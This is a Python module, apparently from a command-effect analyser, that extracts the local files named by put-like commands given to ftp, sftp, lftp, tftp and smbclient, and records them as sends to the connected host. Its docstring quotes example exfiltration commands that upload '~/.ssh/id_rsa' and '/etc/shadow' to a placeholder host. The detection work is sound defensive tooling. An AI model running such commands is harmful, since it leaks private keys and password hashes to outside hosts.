"""Files that interactive transfer clients upload from the commands they are given.

`smbclient //h/s -c 'put ~/.ssh/id_rsa k'`, `lftp -e 'put /etc/shadow; bye' ftp://h`,
`tftp h -c put f`, `ftp h <<EOF ... put f ... EOF`, `sftp -b - h <<< 'put f'`: a `put`
sends a local file to the host as surely as `curl -T` does. The client's commands come
from an option (-c, -e) or standard input (a here-document, a pipe).
"""

from __future__ import annotations

from collections.abc import Sequence

from sidecar.effects.model import UNRESOLVED, Action, Effect
from sidecar.effects.paths import normalise

CLIENTS = frozenset({"ftp", "tftp", "sftp", "lftp", "ncftp", "smbclient"})
# Options whose value is a list of client commands.
_COMMAND_OPTIONS = {
    "smbclient": ("-c", "--command"),
    "lftp": ("-e", "-c"),
    "tftp": ("-c",),
}
_PUTS = frozenset({"put", "mput", "reput", "append", "send"})
_MAX_FILES = 64


def with_sent_files(
    effects: list[Effect], program: str, args: Sequence[str], input_text: str
) -> list[Effect]:
    """`effects` and a send of every file the client's commands upload."""
    sent = sent_files(program, args, input_text)
    if not sent:
        return effects
    hosts = [e.target for e in effects if e.action is Action.CONNECT] or [UNRESOLVED]
    return [
        *effects,
        *(Effect(Action.SEND, host, data=tuple(sent), program=program) for host in hosts),
    ]


def sent_files(program: str, args: Sequence[str], input_text: str) -> list[str]:
    """The local paths `put`-like commands name, normalised; [] if none."""
    scripts = [input_text] if input_text else []
    names = _COMMAND_OPTIONS.get(program, ())
    for index, word in enumerate(args):
        if word in names and index + 1 < len(args):
            scripts.append(args[index + 1])
        elif any(word.startswith(f"{name}=") for name in names if name.startswith("--")):
            scripts.append(word.partition("=")[2])
    if program == "tftp":
        scripts.append(" ".join(args))  # `tftp h -c put f` also spells the command as words
    found: list[str] = []
    for script in scripts:
        for command in script.replace(";", "\n").splitlines():
            words = command.split()
            if not words:
                continue
            if words[0] == "mirror" and ("-R" in words or "--reverse" in words):
                # lftp's reverse mirror uploads a local directory (its first operand).
                local = [w for w in words[1:] if not w.startswith("-")][:1]
                found.extend(normalise(w.strip("\"'")) for w in local)
                continue
            at = next((i for i, w in enumerate(words) if w in _PUTS), None)
            if at is None or (program != "tftp" and at != 0):
                continue
            operands = [w for w in words[at + 1 :] if not w.startswith("-")]
            # `put LOCAL [REMOTE]`; mput takes local names only.
            chosen = operands if words[at] == "mput" else operands[:1]
            found.extend(normalise(w.strip("\"'")) for w in chosen)
    return list(dict.fromkeys(p for p in found if p))[:_MAX_FILES]
